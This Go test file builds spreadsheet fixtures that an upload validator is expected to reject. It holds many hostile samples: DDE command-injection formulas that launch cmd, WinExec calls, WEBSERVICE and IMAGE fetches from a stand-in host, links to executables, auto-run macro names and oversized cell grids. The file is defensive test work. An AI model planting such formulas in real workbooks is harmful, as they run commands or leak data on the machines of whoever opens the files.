package upload_test

import (
	"fmt"
	"strings"
)

// book is a workbook of one sheet with this in it, and more parts.
func book(sheet string, more ...entry) []byte { return bookOf("", sheet, more...) }

// bookOf has more in the workbook itself, too.
func bookOf(inBook, sheet string, more ...entry) []byte {
	const main = ` xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="` + officeNS + `"`
	return zipped(append([]entry{
		{
			name: "[Content_Types].xml",
			text: typesXML(
				"/xl/workbook.xml", gridType,
				`<Override PartName="/xl/worksheets/sheet1.xml" ContentType="`+office+`spreadsheetml.worksheet+xml"/>`,
			),
		},
		{
			name: "_rels/.rels",
			text: declared +
				fmt.Sprintf(rels, `<Relationship Id="r1" Type="`+officeNS+`/officeDocument" Target="/xl/workbook.xml"/>`),
		},
		{
			name: "xl/workbook.xml",
			text: declared + `<workbook` + main + `><sheets><sheet name="Trang 1" sheetId="1" r:id="r1"/></sheets>` + inBook +
				`</workbook>`,
		},
		{
			name: "xl/_rels/workbook.xml.rels",
			text: declared +
				fmt.Sprintf(rels, `<Relationship Id="r1" Type="`+officeNS+`/worksheet" Target="worksheets/sheet1.xml"/>`),
		},
		{name: "xl/worksheets/sheet1.xml", text: declared + `<worksheet` + main + `><sheetData/>` + sheet + `</worksheet>`},
	}, more...)...)
}

var escapeXML = strings.NewReplacer("&", "&amp;", "<", "&lt;", `"`, "&quot;")

func cell(formula string) string {
	return `<sheetData><row r="1"><c r="A1"><f>` + escapeXML.Replace(formula) + `</f><v>0</v></c></row></sheetData>`
}

// hostileFormulas are formulas that fetch or start something, in every place where a workbook has formulas.
func hostileFormulas() map[string]bad {
	out := map[string]bad{}
	for formula, key := range map[string]string{
		`WEBSERVICE("http://xau.example/")`: "formula", `_xlfn.WEBSERVICE("http://xau.example/"&A1)`: "formula", `webService ("http://x")`: "formula", "WEBSERVICE\n(A1)": "formula", `IF(1,WEBSERVICE(A1),2)`: "formula",
		`_XLFN._XLWS.WEBSERVICE(A1)`: "formula", `RTD("x",,"y")`: "formula", `CALL("kernel32","WinExec","JCJ","cmd",0)`: "formula", `REGISTER.ID("a","b")`: "formula", `REGISTER("a","b","c")`: "formula", `EXEC("cmd")`: "formula",
		`cmd|'/c calc'!A0`: "formula", `'cmd'|'/c calc'!A0`: "formula", `+cmd|' /C calc'!'A0'`: "formula", `DDE("soffice","a","b")`: "formula", `MSEXCEL|'\..\..\cmd.exe /c calc'!''`: "formula", `SUM(1)+cmd|a!b`: "formula",
		`IMPORTDATA("http://x")`: "formula", `IMPORTXML("http://x","a")`: "formula", `IMPORTHTML(A1,"table",1)`: "formula", `IMPORTRANGE("a","b")`: "formula", `IMPORTFEED("a")`: "formula", `_xlfn.IMAGE("https://xau.example/a.png")`: "formula",
		`'http://xau.example/[a.xlsx]S'!A1`: "formula", `'\\xau\c\[a.xlsx]S'!A1`: "formula", `\\xau\c\[a.xlsx]S!A1`: "formula", `[\\xau\a.xlsx]S!A1`: "formula", `[http://xau.example/a.xlsx]S!A1`: "formula", `'file:///C:/[a.xlsx]S'!A1`: "formula",
		`_xll.Chay("x")`: "formula", `[1]!Chay(A1)`: "formula", `Book.xlsm!Chay(A1)`: "formula", `GET.WORKSPACE(1)`: "formula", `FOPEN("c:\a")`: "formula", `SQL.REQUEST("DSN=x")`: "formula", `CUBEVALUE("a","b")`: "formula", `_xlfn.PY(0,1)`: "formula",
		`EVALUATE("1+1")`: "formula", `FORMULA.FILL(A1,B1)`: "formula", `RUN("x")`: "formula", `STOCKHISTORY("a",1)`: "formula", `ORG.LIBREOFFICE.WEBSERVICE("x")`: "formula", `COM.MICROSOFT.WEBSERVICE("x")`: "formula",
		`HYPERLINK("file:///C:/a.exe","x")`: "link", `HYPERLINK("\\xau\c\a.exe")`: "link", `HYPERLINK("javascript:x")`: "link", `hyperlink ( "smb://xau/c" , "x")`: "link", `HYPERLINK(A1)`: "link", `HYPERLINK("f"&"ile://xau")`: "link",
		`HYPERLINK("https://"&A1)`: "link", `HYPERLINK(CHAR(102)&"ile://xau")`: "link", `HYPERLINK("http://xau.example/")`: "link", `HYPERLINK("https:"&"//x")`: "link", `IF(1,HYPERLINK("a.exe"),2)`: "link", `HYPERLINK()`: "link",
	} {
		out["cell: "+formula] = bad{"a.xlsx", always(book(cell(formula))), key}
	}
	const web = `WEBSERVICE(&quot;http://xau.example/&quot;)`
	for where, sheet := range map[string]string{
		"cell, shared": `<sheetData><row r="1"><c r="A1"><f t="shared" ref="A1:A9" si="0">` + web +
			`</f></c></row></sheetData>`,
		"cell, array":        `<sheetData><row r="1"><c r="A1"><f t="array" ref="A1">` + web + `</f></c></row></sheetData>`,
		"cell, in pieces":    `<sheetData><row r="1"><c r="A1"><f>WEB<![CDATA[SERVICE]]>(<!-- -->A1)</f></c></row></sheetData>`,
		"cell, other prefix": `<x:sheetData><x:row r="1"><x:c r="A1"><x:f>` + web + `</x:f></x:c></x:row></x:sheetData>`,
		"validation": `<dataValidations count="1"><dataValidation type="list" sqref="A1"><formula1>` + web +
			`</formula1></dataValidation></dataValidations>`,
		"validation, upper": `<dataValidations count="1"><dataValidation type="whole" sqref="A1"><formula1>1</formula1><formula2>` + web + `</formula2></dataValidation></dataValidations>`,
		"validation, later": `<extLst><ext><x14:dataValidations><x14:dataValidation><x14:formula1><xm:f>` + web +
			`</xm:f></x14:formula1></x14:dataValidation></x14:dataValidations></ext></extLst>`,
		"condition": `<conditionalFormatting sqref="A1"><cfRule type="expression"><formula>` + web +
			`</formula></cfRule></conditionalFormatting>`,
	} {
		out["formula in "+where] = bad{"a.xlsx", always(book(sheet)), "formula"}
	}
	for what, x := range map[string][2]string{
		"name that fetches":    {`<definedName name="a">` + web + `</definedName>`, "formula"},
		"name of old macros":   {`<definedName name="a">GET.CELL(6,A1)</definedName>`, "formula"},
		"name that runs":       {`<definedName name="a">HALT()</definedName>`, "formula"},
		"name of unknown":      {`<definedName name="a">NOBODY.KNOWS(1)</definedName>`, "formula"},
		"name that calls":      {`<definedName name="a" xlm="1" hidden="1">S!$A$1</definedName>`, "macro"},
		"name that opens":      {`<definedName name="_xlnm.Auto_Open">S!$A$1</definedName>`, "macro"},
		"name that closes":     {`<definedName name="AUTO_CLOSE01">S!$A$1</definedName>`, "macro"},
		"name of a procedure":  {`<definedName name="a" vbProcedure="true">S!$A$1</definedName>`, "macro"},
		"name of other by DDE": {`<definedName name="a">cmd|'/c calc'!A0</definedName>`, "formula"},
	} {
		out[what] = bad{"a.xlsx", always(bookOf(`<definedNames>`+x[0]+`</definedNames>`, "")), x[1]}
	}
	return out
}

// varied are empty cells that differ, so that they do not pack to next to nothing.
func varied(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, `<c s="%d"/>`, uint32(i)*2654435761>>12) //nolint:gosec // any number
	}
	return b.String()
}

// hostileBooks are workbooks that take something from elsewhere, or that grow when they are read.
func hostileBooks() map[string]bad {
	part := func(name, content string) func() []byte {
		return always(book("", entry{name: name, text: declared + content}))
	}
	rows := func(n int, row string) func() []byte {
		return func() []byte {
			var b strings.Builder
			for i := range n {
				b.WriteString(strings.ReplaceAll(row, "@", fmt.Sprint(i+1)))
			}
			return book("<sheetData>" + b.String() + "</sheetData>")
		}
	}
	wide := varied(16_384)
	return map[string]bad{
		"link to a program": {
			"a.xlsx",
			part(
				"xl/externalLinks/externalLink1.xml",
				`<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems/></ddeLink></externalLink>`,
			),
			"macro",
		},
		"link to a program, other prefix": {
			"a.xlsx", part("xl/a.xml", `<x:externalLink xmlns:x="x"><x:ddeLink/></x:externalLink>`), "macro",
		},
		"link to an object": {
			"a.xlsx",
			part("xl/externalLinks/externalLink1.xml", `<externalLink><oleLink r:id="r1" progId="x"/></externalLink>`), "macro",
		},
		"connection": {
			"a.xlsx",
			part(
				"xl/connections.xml",
				`<connections><connection id="1"><webPr url="http://xau.example/"/></connection></connections>`,
			),
			"remote",
		},
		"connection to a database": {
			"a.xlsx", part("xl/connections.xml", `<connections><dbPr connection="DSN=x" command="x"/></connections>`), "remote",
		},
		"connection in another part": {
			"a.xlsx", part("xl/styles.xml", `<a><x15:connection id="a"><x15:webPr url="x"/></x15:connection></a>`), "remote",
		},
		"query": {
			"a.xlsx", part("xl/queryTables/queryTable1.xml", `<queryTable name="a" connectionId="1"/>`), "remote",
		},
		"table of a query": {
			"a.xlsx", part("xl/tables/table1.xml", `<table id="1" tableType="queryTable"/>`), "remote",
		},
		"live data": {
			"a.xlsx", part("xl/volatileDependencies.xml", `<volTypes><volType type="realTimeData"/></volTypes>`), "remote",
		},
		"old macros under another name": {
			"a.xlsx", part("xl/worksheets/sheet2.xml", `<xm:macrosheet xmlns:xm="x"/>`), "macro",
		},
		"dialogue under another name": {"a.xlsx", part("xl/worksheets/sheet2.xml", `<dialogsheet/>`), "macro"},
		"pivot from outside": {
			"a.xlsx",
			part(
				"xl/pivotCache/pivotCacheDefinition1.xml",
				`<pivotCacheDefinition><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>`,
			),
			"remote",
		},
		"pivot from a workbook elsewhere": {
			"a.xlsx",
			part(
				"xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels",
				fmt.Sprintf(
					rels,
					`<Relationship Id="r1" Type="`+officeNS+
						`/externalLinkPath" Target="https://xau.example/a.xlsx" TargetMode="External"/>`,
				),
			),
			"remote",
		},
		"pivot with a formula": {
			"a.xlsx",
			part(
				"xl/pivotCache/pivotCacheDefinition1.xml",
				`<pivotCacheDefinition><calculatedItems><calculatedItem formula="WEBSERVICE(A)"/></calculatedItems></pivotCacheDefinition>`,
			),
			"formula",
		},
		"chart with a formula": {
			"a.xlsx", part("xl/charts/chart1.xml", `<c:chart xmlns:c="c"><c:f>cmd|a!b</c:f></c:chart>`), "formula",
		},
		"table with a formula": {
			"a.xlsx",
			part("xl/tables/table1.xml", `<table><calculatedColumnFormula>WEBSERVICE(A1)</calculatedColumnFormula></table>`),
			"formula",
		},
		"control with a formula": {
			"a.xlsx", part("xl/ctrlProps/ctrlProp1.xml", `<formControlPr fmlaMacro="[1]!Chay()"/>`), "formula",
		},
		"object that is linked": {
			"a.xlsx",
			always(book(`<oleObjects><oleObject progId="x" link="[1]!a" oleUpdate="OLEUPDATE_ALWAYS"/></oleObjects>`)),
			"remote",
		},
		"published page": {
			"a.xlsx", always(book(`<webPublishItems><webPublishItem destinationFile="\\xau\c"/></webPublishItems>`)), "remote",
		},
		"last column in every row":    {"a.xlsx", rows(5_000, `<row r="@"><c r="XFD@"/></row>`), "cells"},
		"all columns in every row":    {"a.xlsx", rows(70, `<row r="@">`+wide+`</row>`), "cells"},
		"cells without end":           {"a.xlsx", rows(1_100, `<row r="@">`+varied(1_000)+`</row>`), "cells"},
		"cell beyond the last column": {"a.xlsx", rows(1, `<row r="1"><c r="XFE1"/></row>`), "broken"},
		"cell beyond the last row":    {"a.xlsx", rows(1, `<row r="1"><c r="A1048577"/></row>`), "broken"},
		"cell of no column":           {"a.xlsx", rows(1, `<row r="1"><c r="1"/></row>`), "broken"},
		"cell of an endless row":      {"a.xlsx", rows(1, `<row r="1"><c r="A99999999999999999999"/></row>`), "broken"},
		"row beyond the last":         {"a.xlsx", rows(1, `<row r="4294967297"/>`), "broken"},
		"columns without end":         {"a.xlsx", always(book(`<cols><col min="1" max="2147483647"/></cols>`)), "broken"},
		"merged cells without end": {"a.xlsx", func() []byte {
			var b strings.Builder
			for i := range 60_000 {
				fmt.Fprintf(&b, `<mergeCell ref="A%d:B%d"/>`, i*7919%99_991+1, i*104_729%99_991+1)
			}
			return book("<mergeCells>" + b.String() + "</mergeCells>")
		}, "cells"},
		"workbook with another's link": {
			"a.xlsx",
			part(
				"xl/worksheets/_rels/sheet1.xml.rels",
				fmt.Sprintf(
					rels, `<Relationship Id="r1" Type="`+officeNS+`/hyperlink" Target="file:///C:/a.exe" TargetMode="External"/>`,
				),
			),
			"link",
		},
		"workbook declared with macros": {
			"a.xlsx",
			always(zipped(entry{
				name: "[Content_Types].xml",
				text: typesXML("/xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", ""),
			})),
			"macro",
		},
		"workbook declared an add-in": {
			"a.xlsx",
			always(zipped(entry{
				name: "[Content_Types].xml",
				text: typesXML("/xl/workbook.xml", "application/vnd.ms-excel.addin.macroEnabled.main+xml", ""),
			})),
			"macro",
		},
		"workbook of the binary form": {
			"a.xlsx",
			always(zipped(entry{
				name: "[Content_Types].xml",
				text: typesXML("/xl/workbook.bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main", ""),
			})),
			"macro",
		},
	}
}
